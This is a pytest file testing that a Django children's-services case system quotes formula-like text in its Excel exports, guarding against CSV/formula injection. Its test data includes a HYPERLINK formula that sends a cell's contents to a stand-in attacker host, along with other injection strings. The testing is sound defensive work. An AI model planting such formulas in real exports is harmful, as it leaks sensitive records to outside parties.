"""Safe workbooks (issue 12): text that a spreadsheet program would run as a formula is written as
text, quoted, in every workbook Journey writes (OWASP, CSV/formula injection).

First the helper (journey.core.spreadsheets) on its own, in openpyxl's write-only and normal
modes. Then each workbook a user downloads: the CAF tracker export, the Annex A workbook, the
census problems list and the reviewer visit report, each made from records with hostile names
(through the services and factories), downloaded through its view and opened with openpyxl.
Each of those tests also downloads the workbook once with the helper bypassed (each cell made as
openpyxl makes it unguarded, as before) and shows that the same checks find the formula: a check
that cannot fail proves nothing.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.workbook.workbook import Workbook as Book

from journey.access.reviewers import services as reviewers
from journey.background.models import Job
from journey.cases.models import EpisodeKind
from journey.cases.services import allocate
from journey.casework.models import Assessment
from journey.casework.services import record_assessment
from journey.core import spreadsheets
from journey.core.spreadsheets import BOLD, cell, row, safe_text
from journey.people.models import Agency, Person
from journey.reporting.census.explanations import explain_census_query
from journey.reporting.models import CensusBreach, CensusCheck
from journey.workforce.models import Allocation, Role
from tests.background.worker import private_media, run_worker  # noqa: F401
from tests.factories import (
    AgencyFactory,
    TeamFactory,
    UserFactory,
    WorkerFactory,
    make_child,
    make_episode,
)
from tests.reporting.annex_a.conftest import ago, contact
from tests.reporting.annex_a.test_views import period_query
from tests.tracker.conftest import caf_episode, days_ago

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Open record")'
#: One of each way text can start a formula: "=", "+", "-", "@", tab, carriage return.
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DOWNLOADED = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- reading a workbook back ---------------------------------------------------------------------


def cells(book: Book) -> list[Cell]:
    return [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line]


def unsafe_values(book: Book) -> set[str]:
    """Every value a spreadsheet program could run: a formula, or text starting like one."""
    return {
        str(c.value)
        for c in cells(book)
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))
    }


def quoted_texts(book: Book) -> set[str]:
    """The text cells the helper neutralised, as they were before their quote."""
    return {
        c.value[1:]
        for c in cells(book)
        if c.data_type == "s" and isinstance(c.value, str) and c.value.startswith("'")
    }


def assert_safe(book: Book, hostile: list[str]) -> None:
    """No formula anywhere, no text starting like one, and each hostile text there, quoted."""
    assert not [c.coordinate for c in cells(book) if c.data_type == "f"]
    assert unsafe_values(book) == set()
    assert set(hostile) <= quoted_texts(book), set(hostile) - quoted_texts(book)


def _unguarded_cell(sheet, value, *, number_format: str = "", bold: bool = False) -> Cell:
    """A cell as the workbooks made them before the helper: openpyxl guesses the type."""
    written = WriteOnlyCell(sheet, value=value)
    if number_format:
        written.number_format = number_format
    if bold:
        written.font = BOLD
    return written


def assert_unguarded_would_fail(monkeypatch, download: Callable[[], Book], hostile: list[str]):
    """With the helper bypassed the same workbook has the live formula and the unquoted text,
    so `assert_safe` fails on it."""
    with monkeypatch.context() as patch:
        patch.setattr(spreadsheets, "cell", _unguarded_cell)
        book = download()
    assert any(c.data_type == "f" and c.value == HYPERLINK for c in cells(book))
    assert set(hostile) <= unsafe_values(book)
    with pytest.raises(AssertionError):
        assert_safe(book, hostile)


def by_first_column(sheet) -> dict[object, dict[str, Cell]]:
    """{first cell's value: {header: cell}} for a sheet whose first row is its headers."""
    lines = list(sheet.iter_rows())
    header = [c.value for c in lines[0]]
    return {line[0].value: dict(zip(header, line, strict=False)) for line in lines[1:]}


def split(name: str) -> dict[str, str]:
    """A full name as the first and last names that make it (the last word is the last name)."""
    first, _, last = name.rpartition(" ")
    return {"first_name": first, "last_name": last}


def rename(child: Person, name: str) -> None:
    """The services strip a name's spaces, so one starting with a tab or a carriage return comes
    only from a record changed another way (the admin, a data fix, an import): written straight
    to the table."""
    Person.objects.filter(pk=child.pk).update(**split(name))


# --- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_is_quoted(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Ada Zed", "", "O'Neil", "'quoted", " =1+1", "a=b", "1+1", "JNY0000001", "#N/A"]
)
def test_other_text_is_left_as_it_is(text):
    assert safe_text(text) == text


def test_a_cell_holding_a_formula_like_text_is_a_string_cell():
    sheet = Workbook(write_only=True).create_sheet("Test")
    made = cell(sheet, HYPERLINK)
    assert (made.value, made.data_type) == ("'" + HYPERLINK, "s")
    assert cell(sheet, "#N/A").data_type == "s", "text, not an error value"


def round_trip(write_only: bool, values: list, **options) -> list[Cell]:
    """Write one row through `row` in the mode, save, and read the row back."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Test") if write_only else book.active
    sheet.append(row(sheet, values, **options))
    out = io.BytesIO()
    book.save(out)
    return list(next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows()))


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_hostile_text_reads_back_as_quoted_text(write_only):
    read = round_trip(write_only, HOSTILE)
    assert [(c.value, c.data_type) for c in read] == [("'" + text, "s") for text in HOSTILE]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_numbers_dates_booleans_and_empty_cells_are_written_as_themselves(write_only):
    day = dt.date(2026, 3, 31)
    moment = dt.datetime(2026, 3, 31, 9, 30)
    values = [-5, -2.5, Decimal("-1.25"), 0, True, None, day, moment, "#N/A", "Ada Zed"]
    read = round_trip(write_only, values, date_format="d mmm yyyy")
    assert [c.value for c in read] == [
        -5,
        -2.5,
        -1.25,
        0,
        True,
        None,
        dt.datetime(2026, 3, 31),
        moment,
        "#N/A",
        "Ada Zed",
    ]
    assert [c.data_type for c in read[:5]] == ["n", "n", "n", "n", "b"]
    assert all(c.is_date and c.number_format == "d mmm yyyy" for c in read[6:8])
    assert [c.data_type for c in read[8:]] == ["s", "s"]
    assert read[0].number_format == "General", "the date format is for dates only"


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_a_row_keeps_a_cell_made_with_its_own_format_and_can_be_bold(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Test") if write_only else book.active
    produced = dt.datetime(2026, 3, 31, 9, 30)
    sheet.append(row(sheet, ["Produced", cell(sheet, produced, number_format="dd/mm/yyyy hh:mm")]))
    sheet.append(row(sheet, ["Heading", "+heading"], bold=True))
    out = io.BytesIO()
    book.save(out)
    first, second = load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows()
    assert first[1].value == produced and first[1].number_format == "dd/mm/yyyy hh:mm"
    assert not first[0].font.b
    assert [(c.value, c.font.b) for c in second] == [("Heading", True), ("'+heading", True)]


def test_a_text_choice_is_written_as_plain_text():
    sheet = Workbook(write_only=True).create_sheet("Test")
    made = cell(sheet, EpisodeKind.SOCIAL_CARE)
    assert type(made.value) is str and made.value == EpisodeKind.SOCIAL_CARE.value


# --- the CAF tracker export ----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_caf_tracker_export_writes_hostile_text_as_text(council, signed_in, monkeypatch):
    # Children's names; a lead professional's name and agency; a team's name.
    children = [HYPERLINK, "+1+1 Plus", "-2+3 Minus"]
    for name in children:
        caf_episode(council, **split(name))
    lead = WorkerFactory(
        role=Role.EXTERNAL_LEAD_PROFESSIONAL,
        team=None,
        agency=AgencyFactory(name="\r=1+1", kind=Agency.Kind.SCHOOL),
        user=UserFactory(username="hostile.lead", first_name="@SUM(A1)", last_name="Lead"),
    )
    caf_episode(council, lead=lead, first_name="Cal", last_name="Young")
    team = TeamFactory(name="\t=1+1", service=council.eh_team.service)
    worker = WorkerFactory(
        role=Role.PRACTITIONER, team=team, user=UserFactory(username="tab.practitioner")
    )
    caf_episode(council, worker=worker, supervised_days_ago=None, first_name="Bea", last_name="Xu")
    ordinary = caf_episode(council, first_name="Ada", last_name="Zed")
    client = signed_in(council["assistant_director"])

    def download() -> Book:
        response = client.get(reverse("caf_tracker_xlsx"), {"team": "all", "flag": ""})
        assert response.status_code == 200 and response["Content-Type"] == DOWNLOADED
        return load_workbook(io.BytesIO(response.content))

    hostile = [*children, "@SUM(A1) Lead", "\r=1+1", "\t=1+1"]
    book = download()
    assert_safe(book, hostile)
    rows = by_first_column(book["CAF tracker"])
    assert rows["'" + HYPERLINK]["Team"].value == "Early Help North"
    assert rows["Cal Young"]["Lead professional"].value == "'@SUM(A1) Lead"
    assert rows["Cal Young"]["Agency"].value == "'\r=1+1"
    assert rows["Bea Xu"]["Team"].value == "'\t=1+1"
    ada = rows["Ada Zed"]
    assert ada["Local ID"].value == ordinary.child.local_id
    assert ada["Lead professional"].value == council["practitioner"].name
    assert ada["Opened"].is_date and ada["Opened"].number_format == "d mmm yyyy"
    assert ada["Opened"].value.date() == days_ago(200)
    assert (ada["Days open"].value, ada["Days open"].data_type) == (200, "n")
    assert_unguarded_would_fail(monkeypatch, download, hostile)


# --- the Annex A workbook ------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_annex_a_workbook_writes_hostile_text_as_text(council, client, monkeypatch):
    sw = council["social_worker"]
    # Local IDs brought from another system (list 1).
    local_ids = ["+1+1", "-2+3", "@SUM(A1)"]
    for n, local_id in enumerate(local_ids):
        contact(make_child(sw, first_name=f"Imported{n}", local_id=local_id), sw, 10, "3B")
    ordinary = make_child(sw, first_name="Ava", date_of_birth=dt.date(2015, 3, 1))
    contact(ordinary, sw, 12, "3B")
    # A referral (list 3) to a team and a worker with hostile names.
    hostile_sw = WorkerFactory(
        role=Role.SOCIAL_WORKER,
        team=TeamFactory(name="\t=1+1", service=council.sc_team.service),
        user=UserFactory(username="hostile.sw", **split(HYPERLINK)),
    )
    referred = make_child(sw, first_name="Cara")
    make_episode(referred, hostile_sw, started_on=ago(30), allocate_to=hostile_sw)
    # An early help assessment (list 2) led from an agency with a hostile name.
    practitioner = council["practitioner"]
    lead = WorkerFactory(
        role=Role.EXTERNAL_LEAD_PROFESSIONAL,
        team=None,
        agency=AgencyFactory(name="\r=1+1", kind=Agency.Kind.SCHOOL),
        user=UserFactory(username="hostile.lead"),
    )
    early = make_episode(
        make_child(sw, first_name="Dan"),
        practitioner,
        kind=EpisodeKind.EARLY_HELP_CAF,
        started_on=ago(100),
    )
    allocate(
        early,
        worker=lead,
        kind=Allocation.Kind.LEAD_PROFESSIONAL,
        started_on=ago(100),
        allocated_by=practitioner.user,
    )
    record_assessment(
        episode=early,
        kind=Assessment.Kind.CAF,
        started_on=ago(90),
        completed_on=ago(80),
        recorded_by=practitioner.user,
    )
    client.force_login(council["performance_officer"].user)

    def download() -> Book:
        """Ask for the workbook, let the background worker make it, then download it."""
        client.post(reverse("annex_a_download"), period_query(ago(365), ago(0)))
        run_worker()
        job = Job.objects.latest("pk")
        response = client.get(reverse("background_job_file", args=[job.pk]))
        assert response.status_code == 200 and response["Content-Type"] == DOWNLOADED
        return load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    hostile = [*local_ids, HYPERLINK, "\t=1+1", "\r=1+1"]
    book = download()
    assert_safe(book, hostile)
    contacts = by_first_column(book["List 1"])
    assert {"'" + local_id for local_id in local_ids} < set(contacts)
    ava = contacts[ordinary.local_id]
    assert ava["Date of Birth"].value == dt.datetime(2015, 3, 1)
    assert ava["Date of Contact"].is_date and ava["Date of Contact"].number_format == "dd/mm/yyyy"
    assert ava["Date of Contact"].value.date() == ago(12)
    cara = by_first_column(book["List 3"])[referred.local_id]
    assert cara["Allocated Team"].value == "'\t=1+1"
    assert cara["Allocated Worker"].value == "'" + HYPERLINK
    assert cara["Date of referral"].value.date() == ago(30)
    assert_unguarded_would_fail(monkeypatch, download, hostile)


# --- the census problems list --------------------------------------------------------------------


CENSUS_YEAR = 2026  # the 2025 to 2026 collection: referrals from 1 April 2025


@pytest.mark.django_db
def test_the_census_problems_workbook_writes_hostile_text_as_text(council, client, monkeypatch):
    sw = council["social_worker"]
    names = ["+1+1 Plus", "-2+3 Minus", "@SUM(A1) At", "\t=1+1 Tab", "\r=1+1 Return", "Ada Zed"]
    children = {}
    for name in names:
        child = make_child(sw, **split(name.strip()))
        make_episode(child, sw, started_on=dt.date(2025, 4, 10))
        children[name] = child
    rename(children["\t=1+1 Tab"], "\t=1+1 Tab")
    rename(children["\r=1+1 Return"], "\r=1+1 Return")
    officer = council["performance_officer"]
    client.force_login(officer.user)
    client.post(reverse("census_check"), {"year": CENSUS_YEAR})
    run_worker()
    check = CensusCheck.objects.latest_for(CENSUS_YEAR)
    query = CensusBreach.objects.filter(census_check=check, is_query=True).first()
    assert query is not None, "a query to explain"
    explain_census_query(query, explanation=HYPERLINK, by=officer.user)

    def download() -> Book:
        response = client.get(reverse("census_problems_xlsx"), {"year": CENSUS_YEAR})
        assert response.status_code == 200 and response["Content-Type"] == DOWNLOADED
        return load_workbook(io.BytesIO(response.content))

    hostile = [*names[:-1], HYPERLINK]
    book = download()
    assert_safe(book, hostile)
    lines = list(book.active.iter_rows(values_only=True))
    ada = children["Ada Zed"]
    assert (ada.local_id, "Ada Zed") in {line[:2] for line in lines}
    explained = [line for line in lines if line[-1] == "'" + HYPERLINK]
    assert [line[2] for line in explained] == [query.rule]
    assert_unguarded_would_fail(monkeypatch, download, hostile)


# --- the reviewer visit report -------------------------------------------------------------------


@pytest.mark.django_db
def test_the_reviewer_visit_report_writes_hostile_text_as_text(council, signed_in, monkeypatch):
    reviewer = WorkerFactory(
        role=Role.REVIEWER,
        team=None,
        agency=AgencyFactory(name="\t=1+1"),
        user=UserFactory(username="hostile.reviewer", first_name="@SUM(A1)", last_name="Smith"),
    )
    names = [HYPERLINK, "+1+1 Plus", "\r=1+1 Return", "Ada Zed"]
    children = []
    for name in names:
        child = make_child(council["team_manager"], **split(name.strip()))
        make_episode(child, council["team_manager"], allocate_to=council["social_worker"])
        children.append(child)
    rename(children[2], "\r=1+1 Return")
    head = council["head_of_service"]
    visit = reviewers.plan_visit(
        reviewers.VisitInput(
            reviewer=reviewer,
            purpose="-2+3 peer review of children in need",
            starts_on=ago(0),
            ends_on=ago(-13),
            teams=[council.sc_team],
            kinds=[EpisodeKind.SOCIAL_CARE],
            period_start=ago(365),
            period_end=ago(0),
        ),
        by=head,
    )
    reviewers.choose_sample(visit, children=children, by=head)
    as_reviewer = signed_in(reviewer)
    for child in (children[0], children[3]):
        assert as_reviewer.get(reverse("child", args=[child.pk])).status_code == 200
    client = signed_in(council["qa_officer"])

    def download() -> Book:
        response = client.get(reverse("reviewer_visit_xlsx", args=[visit.pk]))
        assert response.status_code == 200 and response["Content-Type"] == DOWNLOADED
        return load_workbook(io.BytesIO(response.content))

    hostile = [
        "-2+3 peer review of children in need",
        "@SUM(A1) Smith",
        "\t=1+1",
        *names[:-1],
    ]
    book = download()
    assert_safe(book, hostile)
    lines = list(book.active.iter_rows())
    assert [c.value for c in lines[0]] == reviewers.REPORT_COLUMNS and lines[0][0].font.b
    by_child = {line[3].value: line for line in lines[1:]}
    ada = by_child["Ada Zed"]
    assert ada[4].value == children[3].local_id and ada[7].value == "Summary"
    assert ada[5].is_date and ada[5].number_format == "d mmm yyyy hh:mm"
    assert by_child["'+1+1 Plus"][6].value == "Not opened"
    assert_unguarded_would_fail(monkeypatch, download, hostile)
